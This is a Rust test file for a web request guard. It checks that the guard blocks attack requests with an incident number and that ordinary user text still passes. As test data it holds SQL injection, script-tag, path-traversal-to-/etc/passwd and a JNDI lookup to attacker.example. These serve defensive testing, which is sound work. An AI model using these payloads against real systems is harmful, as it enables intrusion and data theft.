//! The guard in front of every route: what it stops and how it says so, and what it lets people write.

use std::path::Path;

use axum::body::Body;
use axum::http::{HeaderName, HeaderValue, Method, Request, Response, StatusCode, Version, header};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use guard::Decision;
use http_body_util::BodyExt;
use identity::devices::DEVICE_COOKIE;
use serde_json::{Value, json};
use server::guarding::{Facts, load, load_with};
use tower::ServiceExt;
use webkit::{GUEST_COOKIE, MEMBER_COOKIE};

use crate::world::{World, guard_of, serving, world};

/// A release that lies beside the project, of another version than the one that Debian has.
const BESIDE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/crs");

/// The release that the machine has, and the one beside the project where there is one.
pub(crate) fn releases() -> impl Iterator<Item = &'static str> {
    let beside = Path::new(BESIDE).join("rules").is_dir();
    ["", BESIDE].into_iter().take(1 + usize::from(beside))
}

/// The pack alone, with the release that the machine has, and with one beside the project.
async fn worlds() -> Vec<World> {
    let mut worlds = Vec::new();
    for loaded in std::iter::once(load_with(None)).chain(releases().map(load)) {
        let mut world = world().await;
        world.router = serving(&world.test.app, &guard_of(loaded.unwrap()));
        worlds.push(world);
    }
    worlds
}

async fn get(world: &World, target: &str, accept: &str) -> Response<Body> {
    let request = Request::builder()
        .uri(target)
        .header(header::HOST, "localhost:8443")
        .header(
            header::USER_AGENT,
            "Mozilla/5.0 (X11; Linux x86_64) Chromium/150",
        )
        .header(header::ACCEPT, accept)
        .body(Body::empty())
        .unwrap();
    world.router.clone().oneshot(request).await.unwrap()
}

async fn text(answer: Response<Body>) -> String {
    let bytes = answer.into_body().collect().await.unwrap().to_bytes();
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// The comment that a member writes; the guard's answer or the operation's.
async fn comment(world: &World, words: &str) -> StatusCode {
    let body = json!({
        "body": { "blocks": [{ "spans": [{ "text": words }] }] },
        "client_id": world.test.app.mint::<kernel::ids::CommentKind>().uuid(),
    });
    let path = format!("/api/v1/reviews/{}/comments", world.ids.review);
    let answer = world.call(&world.owner, "POST", &path, Some(&body)).await;
    answer.status
}

#[tokio::test]
async fn an_attack_is_stopped_with_a_number_before_anything_else_looks_at_it() {
    for world in &worlds().await {
        attacks_are_stopped(world).await;
    }
}

async fn attacks_are_stopped(world: &World) {
    for target in [
        "/api/v1/me?a=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "/api/v1/me?a=%3Cscript%3Ealert(1)%3C/script%3E",
        "/api/v1/files/..%2f..%2f..%2fetc/passwd",
        "/api/v1/me?a=$%7Bjndi:ldap://attacker.example/a%7D",
        "/api/v1/reviews/%00",
        "/.git/config",
        "/wp-login.php",
        "/no/such/page?file=../../../../etc/passwd",
    ] {
        let answer = get(world, target, "application/json").await;
        assert_eq!(answer.status(), StatusCode::FORBIDDEN, "{target}");
        let number = answer.headers()["x-request-id"]
            .to_str()
            .unwrap()
            .to_owned();
        assert_eq!(answer.headers()["countersign-guard"], "refused");
        assert_eq!(
            answer.headers()[header::CONTENT_TYPE],
            "application/problem+json"
        );
        let problem: Value = serde_json::from_str(&text(answer).await).unwrap();
        assert_eq!(problem["code"], "request_stopped");
        assert_eq!(problem["incident"], number.as_str());
    }
}

#[tokio::test]
async fn a_person_gets_a_page_that_says_what_to_do() {
    let world = world().await;
    let answer = get(
        &world,
        "/r/x?next=<script>alert(1)</script>"
            .replace('<', "%3C")
            .replace('>', "%3E")
            .as_str(),
        "text/html,*/*",
    )
    .await;

    assert_eq!(answer.status(), StatusCode::FORBIDDEN);
    let number = answer.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_owned();
    let policy = answer.headers()[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(policy.contains("default-src 'none'"), "{policy}");
    let page = text(answer).await;
    for part in ["This request was stopped", "copy it again", number.as_str()] {
        assert!(page.contains(part), "{part} in {page}");
    }
    assert!(
        !page.contains("alert"),
        "what was asked for is not repeated"
    );
}

#[tokio::test]
async fn people_write_what_they_like_in_comments_and_names() {
    for world in &worlds().await {
        words_pass(world).await;
    }
}

async fn words_pass(world: &World) {
    for words in [
        "Drop the table of contents; alter the cover.",
        "SELECT name FROM users WHERE id = 1 OR 1=1 --",
        "<script>alert('hello')</script> is what the old page said",
        "Don't use ../../assets/logo.svg",
        "Use ${user.name} here, not {{ user }}",
        "Let's chat at 3pm; ping me on Slack",
        "cat /etc/passwd | grep root",
    ] {
        assert_eq!(comment(world, words).await, StatusCode::CREATED, "{words}");
    }
    // A script that somebody pasted, each line a block of its own.
    let lines: Vec<Value> = (0..60)
        .map(|line| json!({ "spans": [{ "text": format!("UPDATE users SET name = 'x{line}' WHERE id = {line} OR 1=1; -- ../../logo.svg <script>alert({line})</script>") }] }))
        .collect();
    let pasted = json!({
        "body": { "blocks": lines },
        "client_id": world.test.app.mint::<kernel::ids::CommentKind>().uuid(),
    });
    let path = format!("/api/v1/reviews/{}/comments", world.ids.review);
    let answer = world.call(&world.owner, "POST", &path, Some(&pasted)).await;
    assert_eq!(answer.status, StatusCode::CREATED, "{answer:?}");
    for name in [
        "../../logo.svg",
        "Robert'); DROP TABLE students;--",
        "<b>Spring</b>",
    ] {
        let path = format!("/api/v1/projects/{}", world.ids.project);
        let answer = world
            .call(&world.owner, "PATCH", &path, Some(&json!({ "name": name })))
            .await;
        assert!(answer.status.is_success(), "{name}: {answer:?}");
    }
}

#[tokio::test]
async fn what_has_a_form_is_looked_at_in_full() {
    let world = world().await;
    let body = json!({ "locale": "en", "zone": "Europe/Oslo' UNION SELECT password FROM users--", "sentence": null });
    let path = format!("/api/v1/decisions/{}/withdraw", world.ids.review);
    let answer = world.call(&world.owner, "POST", &path, Some(&body)).await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    assert_eq!(answer.body["code"], "request_stopped");
}

#[tokio::test]
async fn what_an_operation_takes_as_json_the_guard_reads_as_json() {
    for world in &worlds().await {
        for kinds in [
            &["application/json"][..],
            &[" application/json"],
            &["\tapplication/json\t"],
            &["APPLICATION/Json ;charset=utf-16"],
            &["application/json,text/plain"],
            &["application/json", "application/octet-stream"],
            &["application/octet-stream", "application/json"],
            &["application/octet-stream"],
            &[" application/octet-stream"],
            &["application/octet-stream; x=application/json"],
            &["application/problem+json"],
            &["text/plain"],
            &[],
        ] {
            let mut request = Request::post("/api/v1/sign-in")
                .header(header::ORIGIN, "https://localhost:8443")
                .body(Body::from(
                    r#"{"own": "1' UNION SELECT password FROM users--"}"#,
                ))
                .unwrap();
            for kind in kinds {
                let kind = HeaderValue::from_bytes(kind.as_bytes()).unwrap();
                request.headers_mut().append(header::CONTENT_TYPE, kind);
            }
            let answer = world.router.clone().oneshot(request).await.unwrap();
            let problem: Value = serde_json::from_str(&text(answer).await).unwrap();
            let code = problem["code"].as_str().unwrap();
            assert!(
                ["request_stopped", "not_json"].contains(&code),
                "{kinds:?}: {code}"
            );
        }
    }
}

/// Settings hold for what a path begins with, so no route may have a second way to write it.
#[tokio::test]
async fn a_route_is_reached_by_one_spelling_of_its_path() {
    let world = world().await;
    let me = world.call(&world.owner, "GET", "/api/v1/me", None).await;
    assert_eq!(me.status, StatusCode::OK);
    for path in [
        "//api/v1/me",
        "/api//v1/me",
        "/api/v1/me/",
        "/API/v1/me",
        "/api/v1/%6de",
        "/api/v1%2fme",
        "/api/v1/./me",
        "/api/v1/health/../me",
        "/api/v1/health/%2e%2e/me",
        "/api/v1/health/..%2fme",
        "/api/v1/me;x",
    ] {
        let answer = get(&world, path, "application/json").await;
        let kind = answer.headers().get(header::CONTENT_TYPE);
        assert!(
            kind.is_none_or(|kind| kind != "application/json"),
            "{path}: {answer:?}"
        );
    }
}

#[tokio::test]
async fn a_body_that_cannot_be_read_or_is_too_large_says_so() {
    let world = world().await;
    let path = format!("/api/v1/projects/{}", world.ids.project);
    for (body, status, code) in [
        (
            "{\"name\": ".to_owned(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "malformed",
        ),
        (
            format!("{}1{}", "[".repeat(200), "]".repeat(200)),
            StatusCode::UNPROCESSABLE_ENTITY,
            "malformed",
        ),
        (
            json!({ "name": "a".repeat(300 << 10) }).to_string(),
            StatusCode::PAYLOAD_TOO_LARGE,
            "too_large",
        ),
    ] {
        let request = Request::builder()
            .method("PATCH")
            .uri(&path)
            .header(header::COOKIE, world.owner.cookie.clone().unwrap())
            .header(header::ORIGIN, world.owner.origin.clone().unwrap())
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(body))
            .unwrap();
        let answer = world.router.clone().oneshot(request).await.unwrap();
        assert_eq!(answer.status(), status);
        let problem: Value = serde_json::from_str(&text(answer).await).unwrap();
        assert_eq!(problem["code"], code);
    }
}

#[test]
fn a_head_that_passed_lets_no_body_pass() {
    let guard = guard_of(load_with(None).unwrap());
    let kind = [("content-type", "application/json".to_owned())];
    let facts = facts("/api/v1/me", &kind);
    for _ in 0..2 {
        assert_eq!(guard.judge(&facts, b"").decision, Decision::Pass);
    }

    let attack = br#"{"a": "1' OR '1'='1"}"#;

    assert_ne!(guard.judge(&facts, attack).decision, Decision::Pass);
}

#[tokio::test]
async fn nobody_chooses_the_number_of_an_incident() {
    let world = world().await;
    for version in [Version::HTTP_11, Version::HTTP_2] {
        let request = Request::builder()
            .version(version)
            .uri("/x?file=../../../../etc/passwd")
            .header(header::HOST, "localhost:8443")
            .header(header::ACCEPT, "text/html")
            .header("x-request-id", "<b>mine</b>")
            .header("x-request-id", "${jndi:mine}")
            .body(Body::empty())
            .unwrap();

        let answer = world.router.clone().oneshot(request).await.unwrap();

        assert_eq!(answer.status(), StatusCode::FORBIDDEN);
        let numbers: Vec<_> = answer.headers().get_all("x-request-id").iter().collect();
        assert_eq!(numbers.len(), 1);
        let number = numbers[0].to_str().unwrap().to_owned();
        assert!(number.bytes().all(|byte| byte.is_ascii_hexdigit()));
        let page = text(answer).await;
        assert!(page.contains(&number) && !page.contains("mine"), "{page}");
    }
}

/// The head of a request that changes something.
pub(crate) fn facts(target: &str, headers: &[(&'static str, String)]) -> Facts {
    let header = |(name, value): &(&'static str, String)| {
        (
            HeaderName::from_static(name),
            HeaderValue::from_str(value).unwrap(),
        )
    };
    Facts {
        client: None,
        method: Method::POST,
        uri: target.parse().unwrap(),
        version: Version::HTTP_2,
        headers: headers.iter().map(header).collect(),
        id: String::new(),
    }
}

/// How many made-up requests have to pass. One in two thousand was stopped before typed values were known.
const MANY: u32 = 3_000;

/// What the interface sends by itself: random tokens and ids in cookies, headers, paths and bodies.
fn ordinary(number: u32) -> (Facts, String) {
    let token = || vault::token::Token::generate().to_text().to_string();
    let id = |kind: &str| format!("{kind}_{}", uuid::Uuid::now_v7().simple());
    let name = URL_SAFE_NO_PAD.encode(vault::random_bytes::<9>());
    let metadata = format!(
        "filename {},kind {}",
        STANDARD.encode(format!("{name} {number}.bin")),
        STANDARD.encode("application/octet-stream")
    );
    let headers = [
        ("host", "localhost:8443".to_owned()),
        ("origin", "https://localhost:8443".to_owned()),
        ("accept", "application/json".to_owned()),
        ("content-type", "application/json".to_owned()),
        (
            "cookie",
            format!(
                "{MEMBER_COOKIE}={}; {GUEST_COOKIE}={}; {DEVICE_COOKIE}={}",
                token(),
                token(),
                token()
            ),
        ),
        ("upload-metadata", metadata),
        (
            "upload-checksum",
            format!("sha256 {}", STANDARD.encode(vault::random_bytes::<32>())),
        ),
        ("idempotency-key", uuid::Uuid::now_v7().to_string()),
        (
            "referer",
            format!("https://localhost:8443/review/{}", id("rev")),
        ),
    ];
    let target = format!(
        "/api/v1/reviews/{}/decisions?before={}&files={},{}",
        id("rev"),
        token(),
        id("fil"),
        id("fil")
    );
    let body = json!({
        "secret": token(), "token": token(), "sha256": vault::hex(&vault::random_bytes::<32>()), "code": format!("{:06}", number % 1_000_000),
        "client_id": uuid::Uuid::now_v7().to_string(), "group": id("grp"), "email": format!("{name}@nordlys.example"),
        "zone": "Europe/Oslo", "locale": "en-GB", "password": token(),
    });
    (facts(&target, &headers), body.to_string())
}

#[test]
fn nothing_that_the_interface_makes_up_looks_like_an_attack() {
    for named in releases() {
        let guard = guard_of(load(named).unwrap());
        for number in 0..MANY {
            let (facts, body) = ordinary(number);
            let verdict = guard.judge(&facts, body.as_bytes());
            assert_eq!(
                verdict.decision,
                Decision::Pass,
                "{facts:?} {body}: {:?}",
                verdict.findings
            );
        }
    }
}
